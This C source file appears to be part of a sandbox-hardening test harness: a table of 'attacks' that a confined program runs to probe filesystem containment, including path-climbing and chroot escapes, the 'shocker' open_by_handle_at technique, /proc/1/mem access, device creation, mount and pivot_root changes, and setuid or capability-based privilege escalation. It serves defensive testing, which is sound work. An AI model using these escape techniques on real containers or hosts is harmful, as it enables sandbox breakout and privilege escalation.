/* Filesystem and paths: reach a file of the host, or write where nothing may be written. */
#include "review/program/hostile.h"

#include <dirent.h>
#include <linux/mount.h>
#include <linux/openat2.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

void read_fd(const char *what, int fd)
{
	static char data[65536];
	ssize_t len = fd < 0 ? -1 : read(fd, data, sizeof(data));

	if (len < 0) {
		got(what, -1);
		return;
	}
	got_number(what, len);
	for (ssize_t i = 0; i < len && i < 4096; i++)
		putchar(data[i] > ' ' && data[i] < 0x7f ? data[i] : '.');
	putchar('\n');
	fflush(stdout);
}

void read_path(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK);

	read_fd(path, fd);
	if (fd >= 0)
		close(fd);
}

/* read PATH...: what can be read from each */
static int attack_read(int argc, char **argv)
{
	for (int i = 0; i < argc; i++)
		read_path(argv[i]);
	return 0;
}

/* here PATH...: where we are, as the kernel itself says: "(unreachable)/..." is outside of our root; then read */
static int attack_here(int argc, char **argv)
{
	char here[4096];

	got_text("here", syscall(SYS_getcwd, here, sizeof(here)) < 0 ? "/unknown" : here);
	return attack_read(argc, argv);
}

/* climb PATH: the same path behind ../ chains, through the cwd and root of other processes */
static int attack_climb(int argc, char **argv)
{
	static const char *const prefixes[] = {
		"../../../../../../../../../../../../..", "/../../../../../../../../../..", "/proc/self/root",
		"/proc/1/root", "/proc/1/cwd/../../../../../../..", "/proc/self/cwd/../../../../../../..",
		"/dev/fd/0/../../../../../../..", "/tmp/../../../../../../../..",
	};
	char path[4096];

	if (argc != 1)
		return 99;
	for (size_t i = 0; i < COUNT(prefixes); i++) {
		snprintf(path, sizeof(path), "%s%s", prefixes[i], argv[0]);
		read_path(path);
	}
	mkdir("jail", 0700); /* in the workspace */
	int jail = open("jail", O_RDONLY | O_DIRECTORY);
	for (int i = 0; i < 200; i++)
		if (chdir("..") < 0)
			break;
	snprintf(path, sizeof(path), ".%s", argv[0]);
	read_path(path);
	got("chroot", fchdir(jail) < 0 ? -1 : chroot("."));
	return 0;
}

static void try_create(const char *folder)
{
	char path[4096];

	if (gentle()) {
		got(folder, faccessat(AT_FDCWD, folder, W_OK, AT_EACCESS));
		return;
	}
	snprintf(path, sizeof(path), "%s/written-by-the-cell", strcmp(folder, "/") ? folder : "");
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
	got(folder, fd);
	if (fd >= 0) {
		close(fd);
		unlink(path);
	}
}

static void create_below(const char *folder, int depth)
{
	DIR *dir = opendir(folder);
	struct dirent *entry;

	try_create(folder);
	while (dir && depth > 0 && (entry = readdir(dir))) {
		char path[4096];

		if (entry->d_type != DT_DIR || entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", strcmp(folder, "/") ? folder : "", entry->d_name);
		create_below(path, depth - 1);
	}
	if (dir)
		closedir(dir);
}

/* write: try to make a file in every folder of the first levels, and at every mount point */
static int attack_write(int argc, char **argv)
{
	FILE *mounts = fopen("/proc/self/mountinfo", "r");
	char line[8192], point[4096];

	(void)argc, (void)argv;
	create_below("/", gentle() ? 2 : 3);
	while (mounts && fgets(line, sizeof(line), mounts))
		if (sscanf(line, "%*d %*d %*s %*s %4095s", point) == 1)
			try_create(point);
	return 0;
}

/* overwrite PATH...: truncating, appending, unlinking, renaming, changing the mode of existing files */
static int attack_overwrite(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char what[4200], moved[4200];

		snprintf(what, sizeof(what), "open:%s", argv[i]);
		got(what, open(argv[i], O_WRONLY | O_APPEND | O_NONBLOCK));
		snprintf(what, sizeof(what), "truncate:%s", argv[i]);
		got(what, truncate(argv[i], 0));
		snprintf(what, sizeof(what), "chmod:%s", argv[i]);
		got(what, chmod(argv[i], 0777));
		snprintf(moved, sizeof(moved), "%s.moved", argv[i]);
		snprintf(what, sizeof(what), "rename:%s", argv[i]);
		got(what, rename(argv[i], moved));
		snprintf(what, sizeof(what), "unlink:%s", argv[i]);
		got(what, unlink(argv[i]));
	}
	return 0;
}

static void harmless(const char *how, const char *path, long rc)
{
	char what[4200];

	snprintf(what, sizeof(what), "%s:%s", how, path);
	got(what, rc);
}

/* system PATH...: files and folders of the machine itself. What gets through changes nothing: a file is opened and closed,
 * made as long as it is, given its own name, mode and times; outside of a whole cell it is only asked for */
static int attack_system(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		struct stat st;

		harmless("access", argv[i], faccessat(AT_FDCWD, argv[i], W_OK, AT_EACCESS));
		if (gentle() || stat(argv[i], &st) < 0)
			continue;
		const struct timespec times[2] = { st.st_atim, st.st_mtim };
		int fd = open(argv[i], S_ISDIR(st.st_mode) ? O_WRONLY | O_TMPFILE : O_WRONLY | O_APPEND | O_NONBLOCK, 0600);
		harmless("open", argv[i], fd);
		if (fd >= 0)
			close(fd);
		if (S_ISREG(st.st_mode))
			harmless("truncate", argv[i], truncate(argv[i], st.st_size));
		harmless("chmod", argv[i], chmod(argv[i], st.st_mode & 07777));
		harmless("rename", argv[i], rename(argv[i], argv[i]));
		harmless("times", argv[i], utimensat(AT_FDCWD, argv[i], times, 0));
	}
	return 0;
}

/* fds: what was open at the start, and whether any of it is a way out */
static int attack_fds(int argc, char **argv)
{
	(void)argc, (void)argv;
	for (int fd = 0; fd < 65536; fd++) {
		char link[64], target[4096] = "?", what[32];

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		ssize_t len = readlink(link, target, sizeof(target) - 1);
		target[len < 0 ? 0 : len] = 0;
		snprintf(what, sizeof(what), "fd-%d", fd);
		got_text(what, target);
		if (fchdir(fd) == 0)
			got_text("fchdir-worked", link);
	}
	return 0;
}

/* exe: overwrite whatever started us, through /proc */
static int attack_exe(int argc, char **argv)
{
	char parent[32];

	(void)argc, (void)argv;
	snprintf(parent, sizeof(parent), "/proc/%d/exe", (int)getppid());
	got("parent-read", open(parent, O_RDONLY));
	got("self-write", open("/proc/self/exe", O_WRONLY));
	got("self-truncate", truncate("/proc/self/exe", 0));
	got("init-read", open("/proc/1/exe", O_RDONLY));
	got("init-write", open("/proc/1/exe", O_WRONLY));
	got("init-mem", open("/proc/1/mem", O_RDWR));
	got("init-maps", open("/proc/1/maps", O_RDONLY));
	got("init-fd", opendir("/proc/1/fd") ? 0 : -1);
	return 0;
}

/* In the workspace, and gone again: what is made there is no harm. */
static void make_node(const char *path, mode_t mode, unsigned major, unsigned minor)
{
	got(path, mknod(path, mode, makedev(major, minor)));
	unlink(path);
}

static void open_device(const char *folder, const char *name)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/%s", folder, name);
	got(path, gentle() ? faccessat(AT_FDCWD, path, R_OK | W_OK, AT_EACCESS) : open(path, O_RDWR | O_NONBLOCK));
}

/* A device under its name, and made anew by its number. */
static void try_device(const char *name, unsigned major, unsigned minor)
{
	char path[256];

	open_device("/dev", name);
	open_device("/devices", name);
	snprintf(path, sizeof(path), "made-%s", name);
	make_node(path, S_IFBLK | 0666, major, minor);
}

/* mknod: devices made or opened: well-known ones, and all that the kernel tells of; /devices: a /dev that was mounted */
static int attack_mknod(int argc, char **argv)
{
	static const struct {
		const char *path;
		mode_t mode;
		unsigned major, minor;
	} nodes[] = {
		{ "/tmp/null", S_IFCHR | 0666, 1, 3 },	  { "/tmp/kmem", S_IFCHR | 0666, 1, 2 },
		{ "/dev/shm/tty", S_IFCHR | 0666, 5, 0 }, { "/dev/disk", S_IFBLK | 0666, 254, 0 },
	};
	static const char *const devices[] = {
		"vda", "sda", "kvm", "mem", "kmsg", "fuse", "loop0", "loop-control", "net/tun", "console", "tty0", "userfaultfd",
		"mapper/control", "vhost-vsock", "cuse", "port", "hwrng",
	};
	FILE *partitions = fopen("/proc/partitions", "r");
	unsigned major, minor;
	char line[256], name[128];

	(void)argc, (void)argv;
	make_node("null", S_IFCHR | 0666, 1, 3);
	for (size_t i = 0; i < COUNT(nodes) && !gentle(); i++)
		make_node(nodes[i].path, nodes[i].mode, nodes[i].major, nodes[i].minor);
	for (size_t i = 0; i < COUNT(devices); i++)
		open_device("/dev", devices[i]), open_device("/devices", devices[i]);
	got("/dev/ptmx", open("/dev/ptmx", O_RDWR | O_NOCTTY));
	got("/devices/zero", open("/devices/zero", O_RDONLY)); /* harmless; and may not be opened by that name */
	while (partitions && fgets(line, sizeof(line), partitions))
		if (sscanf(line, "%u %u %*u %127s", &major, &minor, name) == 3)
			try_device(name, major, minor);
	return 0;
}

union handle {
	struct file_handle handle;
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

/* "TYPE:HEX", as somebody on the host found it out. */
static void given_handle(const char *text, union handle *ret)
{
	const char *hex = strchr(text, ':');
	unsigned byte;

	ret->handle.handle_type = atoi(text);
	ret->handle.handle_bytes = 0;
	for (hex = hex ? hex + 1 : ""; sscanf(hex, "%2x", &byte) == 1 && ret->handle.handle_bytes < MAX_HANDLE_SZ; hex += 2)
		ret->handle.f_handle[ret->handle.handle_bytes++] = (unsigned char)byte;
}

/* handle [TYPE:HEX]: open_by_handle_at, as "shocker" did: with a handle that is known to be a file's, with that of a
 * folder, and with guessed ones; from every mount there is */
static int attack_handle(int argc, char **argv)
{
	static const char *const froms[] = { "/", ".", "/usr", "/proc/self/root", "/dev/null", "/review", "/hostile" };
	union handle guess = { 0 };
	int mount_id, opened = 0, root = open("/", O_RDONLY | O_DIRECTORY), here = open(".", O_RDONLY | O_DIRECTORY);

	guess.handle.handle_bytes = MAX_HANDLE_SZ;
	got("name-to-handle", name_to_handle_at(AT_FDCWD, "/usr", &guess.handle, &mount_id, 0));
	got("by-handle-real", open_by_handle_at(root, &guess.handle, O_RDONLY));
	guess.handle.handle_bytes = MAX_HANDLE_SZ;
	got("name-to-handle-fid", name_to_handle_at(AT_FDCWD, ".", &guess.handle, &mount_id, 0x200 /* AT_HANDLE_FID */));
	for (size_t i = 0; i < COUNT(froms) && argc == 1; i++) {
		char what[64];

		given_handle(argv[0], &guess);
		snprintf(what, sizeof(what), "by-handle-given:%s", froms[i]);
		read_fd(what, open_by_handle_at(open(froms[i], O_RDONLY), &guess.handle, O_RDONLY));
	}
	for (uint32_t inode = 0; inode < 256; inode++) {
		guess.handle.handle_bytes = 8;
		guess.handle.handle_type = 1;
		memset(guess.handle.f_handle, 0, 8);
		memcpy(guess.handle.f_handle, &inode, sizeof(inode));
		if (open_by_handle_at(root, &guess.handle, O_RDONLY) >= 0 ||
			open_by_handle_at(here, &guess.handle, O_RDONLY) >= 0)
			opened++;
	}
	got_number("by-handle-guessed", opened);
	return 0;
}

/* Changing mounts does no harm to those of a namespace of our own. Where there is none to be had, and this is no whole
 * cell, nothing may be changed. */
bool mounts_are_ours(void)
{
	if (!gentle())
		return true;
	if (unshare(CLONE_NEWNS) < 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return false;
	return mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL) == 0;
}

/* mount: every way to change what is mounted */
static int attack_mount(int argc, char **argv)
{
	struct mount_attr clear_ro = { .attr_clr = MOUNT_ATTR_RDONLY };
	const char *at = gentle() ? "m" : "/tmp/m";

	(void)argc, (void)argv;
	got("open_tree-plain", syscall(SYS_open_tree, AT_FDCWD, "/", 0));
	got("fsopen", syscall(SYS_fsopen, "ext4", 0));
	got("fsopen-cgroup", syscall(SYS_fsopen, "cgroup2", 0));
	if (!mounts_are_ours())
		return 0;
	mkdir(at, 0700);
	got("tmpfs", mount("x", at, "tmpfs", 0, NULL));
	got("proc", mount("x", at, "proc", 0, NULL));
	got("sysfs", mount("x", at, "sysfs", 0, NULL));
	got("cgroup", mount("x", at, "cgroup", 0, "memory"));
	got("cgroup2", mount("x", at, "cgroup2", 0, NULL));
	if (!gentle())
		got("overlay", mount("x", at, "overlay", 0, "lowerdir=/,upperdir=/tmp,workdir=/tmp"));
	got("fuse", mount("x", at, "fuse", 0, "fd=0,rootmode=40000,user_id=0,group_id=0"));
	got("bind", mount("/", at, NULL, MS_BIND | MS_REC, NULL));
	got("remount-root", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
	got("remount-usr", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
	got("remount-tmp-exec", mount(NULL, "/tmp", NULL, MS_REMOUNT | MS_BIND, NULL));
	got("propagation", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
	got("move", mount("/tmp", "/workspace", NULL, MS_MOVE, NULL));
	got("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
	got("fsmount", syscall(SYS_fsmount, 0, 0, 0));
	got("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */ | AT_RECURSIVE));
	got("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/workspace", 0));
	got("mount_setattr",
		syscall(SYS_mount_setattr, AT_FDCWD, "/", AT_RECURSIVE, &clear_ro, sizeof(clear_ro)));
	got("pivot_root", syscall(SYS_pivot_root, "/tmp", at));
	return 0;
}

/* umount: lift every mount to see what it covers */
static int attack_umount(int argc, char **argv)
{
	FILE *mounts = fopen("/proc/self/mountinfo", "r");
	char line[8192], point[4096];

	(void)argc, (void)argv;
	got("nothing", umount2(".", MNT_DETACH)); /* EINVAL: we might, were it a mount */
	if (!mounts_are_ours())
		return 0;
	while (mounts && fgets(line, sizeof(line), mounts))
		if (sscanf(line, "%*d %*d %*s %*s %4095s", point) == 1)
			got(point, umount2(point, MNT_DETACH));
	return 0;
}

/* mounts: mountinfo as it is, so that the observer can read the flags */
static int attack_mounts(int argc, char **argv)
{
	FILE *mounts = fopen("/proc/self/mountinfo", "r");
	char line[8192];

	(void)argc, (void)argv;
	while (mounts && fgets(line, sizeof(line), mounts))
		fputs(line, stdout);
	return 0;
}

/* whoami: the ids a setuid bit would have changed */
static int attack_whoami(int argc, char **argv)
{
	uid_t real, effective, saved;

	(void)argc, (void)argv;
	getresuid(&real, &effective, &saved);
	got_number("uid", real);
	got_number("euid", effective);
	got_number("suid", saved);
	got_number("gid", getgid());
	got_number("egid", getegid());
	got_number("groups", getgroups(0, NULL));
	return 0;
}

/* become PATH: run another program (a setuid one) as whoami */
static int attack_become(int argc, char **argv)
{
	if (argc != 1)
		return 99;
	execl(argv[0], argv[0], "paths", "whoami", (char *)NULL);
	got("exec", -1);
	return 1;
}

/* setuid: give a copy of ourselves set-id bits, then run it */
static int attack_setuid(int argc, char **argv)
{
	char data[65536];
	ssize_t len;
	int from = open("/proc/self/exe", O_RDONLY);
	int to = open("suid", O_WRONLY | O_CREAT, 0755);

	(void)argc, (void)argv;
	while ((len = read(from, data, sizeof(data))) > 0)
		if (write(to, data, (size_t)len) != len)
			return 98;
	close(to);
	got("chown", chown("suid", 0, 0));
	got("chmod", chmod("suid", 06755));
	got("setuid", setuid(0));
	got("setgid", setgid(0));
	execl("./suid", "suid", "paths", "whoami", (char *)NULL);
	got("exec", -1);
	return 1;
}

/* suid FOLDER: leave files with set-id bits there, which the host would honour; in every way a mode
 * can be given, with the upper half of the argument set too */
static int attack_suid(int argc, char **argv)
{
	struct open_how how = { .flags = O_WRONLY | O_CREAT, .mode = 06755 };
	const unsigned long upper = 1UL << 32;
	char held[32];
	int fd;

	if (argc != 1 || chdir(argv[0]) < 0)
		return 99;
	umask(0);
	fd = open("fchmod", O_WRONLY | O_CREAT, 0755);
	got("fchmod", fchmod(fd, 06755));
	(void)!open("chmod", O_WRONLY | O_CREAT, 0755);
	got("chmod", syscall(SYS_chmod, "chmod", 04755 | upper));
	(void)!open("fchmodat", O_WRONLY | O_CREAT, 0755);
	got("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, "fchmodat", 02755));
	(void)!open("fchmodat2", O_WRONLY | O_CREAT, 0755);
	got("fchmodat2", syscall(452, AT_FDCWD, "fchmodat2", 04755, 0));
	got("open", syscall(SYS_open, "open", O_WRONLY | O_CREAT, 06755));
	got("openat", syscall(SYS_openat, AT_FDCWD, "openat", O_WRONLY | O_CREAT, 06755));
	got("openat2", syscall(SYS_openat2, AT_FDCWD, "openat2", &how, sizeof(how)));
	got("creat", syscall(SYS_creat, "creat", 06755));
	got("mknod", syscall(SYS_mknod, "mknod", S_IFREG | 06755, 0));
	got("mknodat", syscall(SYS_mknodat, AT_FDCWD, "mknodat", S_IFREG | 06755, 0));
	fd = open(".", O_RDWR | O_TMPFILE, 06755);
	snprintf(held, sizeof(held), "/proc/self/fd/%d", fd);
	got("tmpfile", fd < 0 ? -1 : linkat(AT_FDCWD, held, AT_FDCWD, "tmpfile", AT_SYMLINK_FOLLOW));
	static const unsigned char caps[20] = { 1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff };
	got("capability", setxattr("chmod", "security.capability", caps, sizeof(caps), 0));
	return 0;
}

/* noexec FOLDER: copy ourselves there and run the copy; and map it executable */
static int attack_noexec(int argc, char **argv)
{
	char path[4096], data[65536];
	ssize_t len;

	if (argc != 1)
		return 99;
	snprintf(path, sizeof(path), "%s/copy", argv[0]);
	int from = open("/proc/self/exe", O_RDONLY);
	int to = open(path, O_WRONLY | O_CREAT, 0755);
	if (to < 0)
		return got("create", -1), 1;
	while ((len = read(from, data, sizeof(data))) > 0)
		if (write(to, data, (size_t)len) != len)
			return 98;
	close(to);
	execl(path, path, "paths", "whoami", (char *)NULL);
	got("exec", -1);
	return 0;
}

/* shm NAME: what lies in /dev/shm, then leave NAME there */
static int attack_shm(int argc, char **argv)
{
	DIR *dir = opendir("/dev/shm");
	struct dirent *entry;
	char path[4096];
	int seen = 0;

	if (argc != 1)
		return 99;
	while (dir && (entry = readdir(dir)))
		seen += entry->d_name[0] != '.';
	got_number("seen", seen);
	snprintf(path, sizeof(path), "/dev/shm/%s", argv[0]);
	got("create", open(path, O_WRONLY | O_CREAT | O_EXCL, 0666));
	ready();
	sleep(2);
	return 0;
}

/* cwd: where we are, and whether that is inside our root */
static int attack_cwd(int argc, char **argv)
{
	char here[4096];

	(void)argc, (void)argv;
	got_text("cwd", getcwd(here, sizeof(here)) ? here : strerrorname_np(errno));
	return 0;
}

/* list FOLDER...: the names in each, one a line */
static int attack_list(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		DIR *dir = opendir(argv[i]);
		struct dirent *entry;

		got(argv[i], dir ? 0 : -1);
		while (dir && (entry = readdir(dir)))
			if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, ".."))
				printf("%s/%s entry\n", argv[i], entry->d_name);
		if (dir)
			closedir(dir);
	}
	return 0;
}

const struct attack paths_attacks[] = {
	{ "read", attack_read },       { "climb", attack_climb },	{ "write", attack_write },
	{ "fds", attack_fds },	       { "exe", attack_exe },		{ "mknod", attack_mknod },
	{ "handle", attack_handle },   { "mount", attack_mount },	{ "umount", attack_umount },
	{ "mounts", attack_mounts },   { "whoami", attack_whoami },	{ "become", attack_become },
	{ "setuid", attack_setuid },   { "noexec", attack_noexec },	{ "shm", attack_shm },
	{ "cwd", attack_cwd },	       { "overwrite", attack_overwrite }, { "list", attack_list },
	{ "suid", attack_suid },       { "system", attack_system },	{ "here", attack_here },
	{ 0 },
};
